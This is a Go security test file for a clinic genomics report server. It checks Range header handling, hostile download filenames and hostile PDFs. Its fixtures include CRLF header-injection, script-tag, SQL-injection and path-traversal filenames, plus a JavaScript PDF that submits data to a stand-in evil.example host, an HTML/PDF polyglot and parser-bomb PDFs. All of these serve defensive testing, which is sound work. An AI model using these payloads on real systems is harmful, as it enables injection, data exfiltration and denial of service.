package attacks

import (
	"fmt"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// Defence: one satisfiable range is answered, several or nonsense with the whole
// file; numbers are clamped, and If-Range must match.
func TestAttack34_Ranges(t *testing.T) {
	w := newClinic(t)
	a, _ := w.seed()
	ada := w.as("clinician")
	file := "/genomics/reports/" + a.pdf + "/file"
	whole := ada.get(file).want(http.StatusOK)
	tag, n := whole.header.Get("Etag"), len(samplePDF)
	if whole.body != samplePDF || tag == "" {
		t.Fatalf("the file is %q, tag %q", whole.body, tag)
	}
	many := func(n int) string { return "bytes=" + strings.TrimSuffix(strings.Repeat("0-0,", n), ",") }
	for _, c := range []struct {
		rng, ifRange string
		status       int
		body         string
	}{
		{"bytes=0-3", "", 206, samplePDF[:4]},
		{"bytes=4-", "", 206, samplePDF[4:]},
		{"bytes=-6", "", 206, samplePDF[n-6:]},
		{"bytes=0-0,5-6", "", 200, samplePDF},
		{"bytes=5-6,0-0,-1", "", 200, samplePDF},
		{many(1000), "", 200, samplePDF},
		{many(3000), "", 200, samplePDF},
		{"bytes=9-3", "", 200, samplePDF},
		{"bytes=--5", "", 200, samplePDF},
		{"bytes=-", "", 200, samplePDF},
		{"bytes=", "", 200, samplePDF},
		{"bytes=a-b", "", 200, samplePDF},
		{"bytes=0x0-0x3", "", 200, samplePDF},
		{"bytes=+0-3", "", 200, samplePDF},
		{"lines=0-3", "", 200, samplePDF},
		{"bytes=0-99999999999999999999", "", 206, samplePDF},
		{"bytes=-99999999999999999999", "", 206, samplePDF},
		{"bytes=0-9223372036854775807", "", 206, samplePDF},
		{"bytes=0-18446744073709551615", "", 206, samplePDF},
		{"bytes=9223372036854775807-9223372036854775808", "", 416, ""},
		{"bytes=99999999999999999999-", "", 416, ""},
		{"bytes=" + strconv.Itoa(n) + "-", "", 416, ""},
		{"bytes=-0", "", 416, ""},
		{"bytes=0-3", tag, 206, samplePDF[:4]},
		{"bytes=0-3", `"stale"`, 200, samplePDF},
		{"bytes=0-3", "W/" + tag, 200, samplePDF},
		{"bytes=0-3", "Mon, 01 Jan 2001 00:00:00 GMT", 200, samplePDF},
	} {
		got := ada.get(file, set("Range", c.rng), set("If-Range", c.ifRange))
		if got.status != c.status || c.body != "" && got.body != c.body || got.status == 416 && strings.Contains(got.body, "%PDF") {
			t.Errorf("Range %.40s, If-Range %s: %d %q; want %d %q", c.rng, c.ifRange, got.status, got.body, c.status, c.body)
		}
		if want := strconv.Itoa(len(got.body)); got.header.Get("Content-Length") != want {
			t.Errorf("Range %.40s: Content-Length %q, want %s", c.rng, got.header.Get("Content-Length"), want)
		}
		if strings.Contains(got.header.Get("Content-Type"), "multipart") {
			t.Errorf("Range %.40s is answered in parts", c.rng)
		}
	}
	// Ranges open no file that the whole does not open.
	w.as("clinician2").get(file, set("Range", "bytes=0-3")).want(http.StatusNotFound).lacks("%PDF")
}

// Defence: downloads are named by report id, titles are escaped, and the type
// comes from the index, which has looked into the file.
func TestAttack35_HostileNames(t *testing.T) {
	w := newClinic(t)
	a, _ := w.seed()
	ada := w.as("clinician")
	names := []string{
		"a\r\nX-Evil: 1\r\n\r\n<script>alert(1)</script>.pdf", "b\"; filename=\"evil.exe.pdf", "c\u202Efdp.exe.pdf", "d'; DROP TABLE x; --.pdf",
		"e\x1b[31mred.pdf", "f%0d%0aX-Evil:1.pdf", "g\u2028\u2029\u0085.pdf", strings.Repeat("h", 240) + ".pdf", "i\\..\\..\\evil.pdf", "j.html.pdf", "k.pdf.exe.pdf",
	}
	for _, name := range names {
		w.report("reports/"+a.number+"/"+name, samplePDF, nil)
	}
	// Content that is not what the name says.
	w.report("reports/"+a.number+"/page.pdf", "<!doctype html><script>"+planted+"</script>", nil)
	w.report("reports/"+a.number+"/document.html", samplePDF, nil)
	w.report("reports/"+a.number+"/late.pdf", strings.Repeat(" ", 2000)+samplePDF+planted, nil)
	w.run("sync-reports")
	list := ada.get("/genomics/reports?size=100").want(http.StatusOK)
	list.clean(t)
	for _, name := range names {
		id := w.reportID(a.number + "/" + name)
		got := ada.get("/genomics/reports/"+id+"/file").want(http.StatusOK, http.StatusConflict)
		disposition := got.header.Get("Content-Disposition")
		if got.header.Get("X-Evil") != "" || got.status == http.StatusOK && disposition != fmt.Sprintf(`inline; filename="report-%.8s.pdf"`, id) {
			t.Errorf("%q: headers %v", name, got.header)
		}
		ada.get("/genomics/reports/" + id).want(http.StatusOK).clean(t)
	}
	for _, name := range []string{"page.pdf", "document.html", "late.pdf"} {
		id := w.reportID(a.number + "/" + name)
		got := ada.get("/genomics/reports/"+id+"/file", set("Sec-Fetch-Dest", "iframe")).lacks(planted)
		if got.status == http.StatusOK && !strings.HasPrefix(got.header.Get("Content-Type"), "application/pdf") {
			t.Errorf("%s is served as %s", name, got.header.Get("Content-Type"))
		}
	}
	if log := w.log.String(); strings.Contains(log, "X-Evil") || strings.Contains(log, "evil.exe") {
		t.Error("names of files are in the log")
	}
}

const jsPDF = `%PDF-1.4
1 0 obj
<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\('owned'\); this.submitForm\('https://evil.example/'\); app.launchURL\('https://evil.example/'\);) >> >>
endobj
2 0 obj
<< /Type /Pages /Kids [3 0 R] /Count 1 >>
endobj
3 0 obj
<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O << /S /URI /URI (https://evil.example/) >> >> >>
endobj
trailer
<< /Root 1 0 R >>
%%EOF
`

// Defence: PDFs are sent as PDFs that nothing may sniff, under a policy without
// scripts, and the viewer runs no scripts of a document.
func TestAttack36_HostilePDFs(t *testing.T) {
	w := newClinic(t)
	a, _ := w.seed()
	ada := w.as("clinician")
	polyglot := "%PDF-1.4\n<html><script>document.title='owned';fetch('/dashboard')</script></html>\n" + strings.TrimPrefix(jsPDF, "%PDF-1.4\n")
	for name, content := range map[string]string{
		"empty": "", "cut": samplePDF[:20], "header only": "%PDF-1.4", "garbage": "\x00\xff\xfe" + strings.Repeat("x", 5000), "polyglot": polyglot, "script": jsPDF,
		"loop": "%PDF-1.4\n1 0 obj\n<< /Length 1 0 R >>\nstream\n" + strings.Repeat("endstream ", 1000) + "\n%%EOF\n",
		"deep": "%PDF-1.4\n1 0 obj\n" + strings.Repeat("<< /A ", 20000) + strings.Repeat(">>", 20000) + "\nendobj\ntrailer\n<</Info 1 0 R>>\n%%EOF\n",
		"xref": "%PDF-1.4\nstartxref\n99999999999999999999\n%%EOF\n",
		"bomb": "%PDF-1.4\n1 0 obj\n<< /Length 999999999999 /Filter [" + strings.Repeat("/FlateDecode ", 1000) + "] >>\nstream\nx\nendstream\nendobj\n%%EOF\n",
		"html": jsPDF + "<script>alert(1)</script>",
	} {
		w.report("reports/"+a.number+"/bad-"+name+".pdf", content, nil)
	}
	w.run("sync-reports")
	ada.get("/genomics/reports?size=100").want(http.StatusOK).clean(t)
	rows, err := w.db.Query(t.Context(), "SELECT report_id FROM analytics.genomics_reports WHERE report_path LIKE '%bad-%'")
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for rows.Next() {
		var id string
		if err := rows.Scan(&id); err != nil {
			t.Fatal(err)
		}
		ids = append(ids, id)
	}
	if rows.Err() != nil || len(ids) < 6 {
		t.Fatalf("%d hostile documents are indexed, %v", len(ids), rows.Err())
	}
	for _, id := range ids {
		ada.get("/genomics/reports/" + id).want(http.StatusOK).clean(t)
		got := ada.get("/genomics/reports/"+id+"/file").want(http.StatusOK, http.StatusConflict, http.StatusGone)
		policy := got.header.Get("Content-Security-Policy")
		if got.header.Get("X-Content-Type-Options") != "nosniff" || got.status == http.StatusOK &&
			(got.header.Get("Content-Type") != "application/pdf" || !strings.Contains(policy, "default-src 'none'") || strings.Contains(policy, "script")) {
			t.Errorf("%d with %v", got.status, got.header)
		}
	}
	b := newTab(t, w.origin)
	var dialogs int
	chromedp.ListenTarget(b.ctx, func(event any) {
		if _, ok := event.(*page.EventJavascriptDialogOpening); ok {
			dialogs++
		}
	})
	b.adopt(ada.caller)
	for _, name := range []string{"script", "polyglot"} {
		id := w.reportID(a.number + "/bad-" + name + ".pdf")
		b.open("/genomics/reports/" + id)
		b.until("the viewer has taken the document", `!!document.querySelector("canvas") || [...document.querySelectorAll("[role=alert],[data-failure]")].some(e => !e.hidden)`)
		if got := b.eval("document.title + location.pathname"); strings.Contains(got, "owned") || !strings.HasSuffix(got, id) {
			t.Errorf("%s: the page is now %q", name, got)
		}
	}
	if dialogs > 0 {
		t.Errorf("%d dialogs were opened by documents", dialogs)
	}
}
